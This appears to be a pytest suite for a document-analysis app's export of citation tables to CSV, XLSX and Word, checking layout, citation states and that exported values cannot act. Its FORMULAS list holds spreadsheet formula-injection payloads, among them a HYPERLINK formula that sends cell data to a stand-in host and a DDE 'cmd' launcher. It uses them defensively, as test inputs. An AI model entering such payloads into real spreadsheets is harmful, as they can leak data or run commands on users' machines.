"""Exported tables, opened and read back: what they say, and that nothing in them acts."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.answers import (
    EXTRACTIVE,
    Citation,
    CitationStatus,
    Mode,
    Searched,
    Statement,
    UnreadablePage,
)
from app.core.events import Answered
from app.core.export import ExportError
from app.core.exporting.paper import clean, one_line
from app.core.exporting.table_csv import harmless
from app.core.table_export import TableFormat, table_file
from app.core.table_records import Cell, CellState, Table, TableField, TableInfo, TableRow
from app.core.vault import KeyFile
from app.core.workspace import Workspace
from tests.app.core.kept import BOX, MADE
from tests.app.core.read_back import Word, squeezed
from tests.app.core.test_exporting_hostile import HOSTILE

FORMULAS = (
    "=HYPERLINK(\"http://a.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1",
    " =1+1", "a;=1+1", "a; \"=1+1\"", "＝1+1", "=cmd|' /C calc'!A0", "\r\n=1+1",
)  # fmt: skip


def cell(quote: str, status: CitationStatus = CitationStatus.VERIFIED, **more: object) -> Cell:
    """A cell without a model: a quotation in that state, and a second one."""
    from ingest.types import PageBox

    shown = quote.replace("[", "(")
    text = f"{shown} [1]\nAlso this. [2]"
    at = len(shown) + 4
    answer = Answered(
        "Which?",
        True,
        text,
        (
            Citation(1, 1, "a.pdf", 3, quote, status, (PageBox(3, BOX), PageBox(4, BOX))),
            Citation(2, 1, "a.pdf", 7, "Also this.", CitationStatus.VERIFIED, (PageBox(7, BOX),)),
        ),
        Searched("Matter", 1, 9, 9),
        (),
        "extractive",
        statements=(
            Statement(0, at, status, (1,)),
            Statement(at + 1, len(text), CitationStatus.VERIFIED, (2,)),
        ),
        by=EXTRACTIVE,
    )
    return Cell(replace(answer, **more), MADE, "hash")  # type: ignore[arg-type]


def nothing(*pages: int) -> Cell:
    unreadable = tuple(UnreadablePage(1, "a.pdf", page, "Too faint.") for page in pages)
    return cell("", found=False, text="", citations=(), statements=(), unreadable=unreadable)


def table(
    *rows: tuple[str, Cell | None, Cell | None],
    names: tuple[str, str] = ("Law", "Term"),
    title: str = "Clauses",
    content_hash: str = "hash",
) -> Table:
    fields = tuple(TableField(name, f"What of {name}?") for name in names)
    missing = sum(made is None for row in rows for made in row[1:])
    info = TableInfo(
        7, "Matter", title, MADE, fields, None, Mode.AUTO, len(rows), missing, 0
    )  # fmt: skip
    made = tuple(
        TableRow(n, name, content_hash, cells) for n, (name, *cells) in enumerate(rows, start=1)
    )
    return Table(info, tuple(replace(row, cells=tuple(row.cells)) for row in made))


PLAIN = table(
    ("a.pdf", cell("The law of Norway."), cell("Four years.", CitationStatus.REPAIRED)),
    ("b.pdf", cell("Oregon.", CitationStatus.UNVERIFIED), nothing(2, 3)),
    ("c.pdf", nothing(), None),
)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook(data: bytes) -> openpyxl.Workbook:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for value in row:
                assert value.data_type in "sn" and not value.hyperlink
                assert value.value is None or isinstance(value.value, str), "strings only"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = archive.namelist()
        assert not [name for name in parts if "external" in name.lower() or "vba" in name.lower()]
        xml = b"".join(archive.read(name) for name in parts if "worksheets/sheet" in name)
        assert b"<f>" not in xml and b"<f " not in xml and b"hyperlink" not in xml
    return book


def values(sheet: object) -> list[list[str]]:
    return [[v or "" for v in row] for row in sheet.iter_rows(values_only=True)]  # type: ignore[attr-defined]


def test_csv_has_a_row_a_document_and_four_columns_a_field() -> None:
    head, *rows = read_csv(table_file(PLAIN, TableFormat.CSV))
    assert head[:5] == ["Document", "Law", "Law: state", "Law: pages", "Law: quotations"]
    assert len(head) == 9 and all(len(row) == 9 for row in rows)
    assert rows[0][:4] == ["a.pdf", "The law of Norway.", "verified", "3–4; 7"]
    assert rows[0][4] == (
        "page 3–4 (verified): “The law of Norway.” / page 7 (verified): “Also this.”"
    )
    assert rows[0][6] == "repaired" and rows[1][2] == "unverified"
    assert rows[1][5:] == ["not found", "not found; pages 2–3 could not be read", "", ""]
    assert rows[2] == ["c.pdf", "not found", "not found", "", "", "", "not asked yet", "", ""]


def test_xlsx_words_and_colours_states_and_has_a_sheet_of_quotations() -> None:
    book = workbook(table_file(PLAIN, TableFormat.XLSX))
    assert book.sheetnames == ["Table", "Quotations", "About"]
    sheet = book["Table"]
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == "A1:E4"
    rows = values(sheet)
    assert rows[0] == ["Document", "Law", "Law: state", "Term", "Term: state"]
    assert rows[1] == ["a.pdf", "The law of Norway.", "verified", "Four years.", "repaired"]
    assert rows[2][3:] == ["not found", "not found; pages 2–3 could not be read"]
    assert rows[3][3:] == ["", "not asked yet"]
    fills = [sheet.cell(*place).fill.fgColor.rgb for place in ((2, 2), (2, 4), (3, 2), (3, 4))]
    assert len(set(fills)) == 4, "each state has its colour"
    assert sheet.cell(2, 2).fill.fgColor.rgb == sheet.cell(2, 3).fill.fgColor.rgb
    assert all(15 <= sheet.column_dimensions[c].width <= 100 for c in "ABCDE")
    head, *quotations = values(book["Quotations"])
    assert head[:2] == ["Document", "Field"]
    assert len(quotations) == 6
    first = dict(zip(head, quotations[0], strict=True))
    assert (first["Pages"], first["Quotation"], first["State"], first["No."]) == (
        "3–4", "The law of Norway.", "verified", "1",
    )  # fmt: skip
    about = dict(values(book["About"]))
    assert about["Title"] == "Clauses" and about["Asked for “Law”"] == "What of Law?"
    assert about["Cells"] == "1 verified, 1 repaired, 1 unverified, 2 not found, 1 not asked yet"
    assert about["Not readable"] == "a.pdf, pages 2–3: Too faint."


def test_docx_lies_on_its_side_with_a_footnote_a_citation() -> None:
    word = Word(table_file(PLAIN, TableFormat.DOCX))
    section = word.document.sections[0]
    assert section.orientation == WD_ORIENT.LANDSCAPE and section.page_width > section.page_height
    grid = next(t for t in word.document.tables if t.cell(0, 0).text == "Document")
    said = [[c.text for c in row.cells] for row in grid.rows]
    assert said[0] == ["Document", "Law", "Term"]
    assert [row[0] for row in said[1:]] == ["a.pdf", "b.pdf", "c.pdf"]
    assert said[1][1].startswith("The law of Norway.") and "(repaired)" in said[1][2]
    assert said[2][2] == "not found; pages 2–3 could not be read"
    assert said[3][2] == "not asked yet"
    assert word.references == [1, 2, 3, 4, 5, 6]
    assert word.notes[1] == "a.pdf, pages 3–4: “The law of Norway.” (verified)."
    assert "claimed: “Oregon.” (unverified)" in word.notes[5]
    widths = sum(c.width.mm for c in grid.rows[0].cells)
    assert 240 < widths < 250


def test_a_cell_of_another_content_says_so() -> None:
    changed = table(("a.pdf", cell("Norway."), nothing()), content_hash="new")
    (_, row) = read_csv(table_file(changed, TableFormat.CSV))
    assert row[2] == "verified; the document has changed since"
    assert (
        "(verified; the document has changed since)"
        in Word(table_file(changed, TableFormat.DOCX)).text
    )
    assert (
        CellState.VERIFIED.value
        in values(workbook(table_file(changed, TableFormat.XLSX))["Table"])[1][2]
    )


@pytest.mark.parametrize("text", [*HOSTILE.values(), *FORMULAS])
def test_hostile_text_stays_text_in_every_format(text: str) -> None:
    made = table(
        (text, cell(text), cell(text, CitationStatus.UNVERIFIED)),
        names=(f"{text} 1", f"{text} 2"),
        title=text,
    )
    wanted = squeezed(one_line(text))
    rows = read_csv(table_file(made, TableFormat.CSV))
    for value in (value for row in rows for value in row):
        assert not re.match(r"[\s\"]*[=+\-@＝]", value), value
        assert not re.search(r";[\s\"]*[=+\-@＝]", value), value
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", value)
    assert squeezed(rows[1][0]).replace("'", "") == wanted.replace("'", "")
    sheet = workbook(table_file(made, TableFormat.XLSX))["Table"]
    said = sheet.cell(2, 1)
    assert squeezed(said.value).replace("|", "") == squeezed(clean(text)).replace("|", "")
    assert said.quotePrefix, "it stays text when somebody edits it"
    word = Word(table_file(made, TableFormat.DOCX))
    assert not list(word.body.iter(qn("w:hyperlink")))
    assert len(word.notes) == 4
    assert wanted in squeezed(word.notes[1])


@settings(max_examples=15, deadline=None)
@given(st.text(max_size=60))
def test_any_text_can_be_written(text: str) -> None:
    made = table((text, cell(text or "x"), None), title=text)
    for form in TableFormat:
        assert table_file(made, form)
    workbook(table_file(made, TableFormat.XLSX))


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters() | st.sampled_from(";=+-@\"' \t\r\n,＝"), max_size=30))
def test_no_value_of_a_csv_file_is_a_formula_with_either_separator(text: str) -> None:
    output = io.StringIO(newline="")
    csv.writer(output, quoting=csv.QUOTE_ALL).writerow(["a", harmless(text), "b"])
    for separator in ",;":
        for row in csv.reader(io.StringIO(output.getvalue(), newline=""), delimiter=separator):
            assert not [value for value in row if re.match(r"\s*[=+\-@＝＋－＠]", value)]


def test_text_that_excel_cannot_hold_is_cut_and_says_so() -> None:
    made = table(("a.pdf", cell("x" * 40_000), cell("_x0041_ stays")))
    sheet = workbook(table_file(made, TableFormat.XLSX))["Table"]
    assert len(sheet["B2"].value) < 32_767 and sheet["B2"].value.endswith("the whole)")
    assert "x" * 40_000 in read_csv(table_file(made, TableFormat.CSV))[1][1]


def test_an_empty_table_is_a_file_too() -> None:
    for form in TableFormat:
        assert table_file(table(), form)
    assert values(workbook(table_file(table(), TableFormat.XLSX))["Quotations"])[1:] == []


def test_files_are_written_under_the_rules_of_exports(tmp_path: Path) -> None:
    with Workspace.open(tmp_path / "library", KeyFile(tmp_path / "key"), create=True) as workspace:
        workspace.create_collection("Matter")
        number = workspace.new_table("Clauses", "Matter", "contracts").id
        for name in ("t.pdf", "t", "t.md"):
            with pytest.raises(ExportError, match=r"\.csv, \.xlsx or \.docx"):
                workspace.export_table(number, tmp_path / name)
        with pytest.raises(ExportError, match="library lies"):
            workspace.export_table(number, tmp_path / "library" / "t.csv")
        path = tmp_path / "T.XLSX"
        workspace.export_table(number, path)
        assert path.stat().st_mode & 0o777 == 0o600
        with pytest.raises(ExportError, match="there already"):
            workspace.export_table(number, path)
        workspace.export_table(number, path, replace=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["T.XLSX", "key", "library"]
